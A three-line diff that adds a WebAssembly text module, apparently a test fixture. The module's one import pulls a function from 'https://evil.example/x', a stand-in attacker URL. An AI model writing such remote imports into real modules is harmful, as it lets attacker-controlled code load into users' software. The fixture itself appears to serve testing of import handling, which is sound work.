@@ -1,0 +1,3 @@
+(module
+  (import "https://evil.example/x" "f" (func))
+)
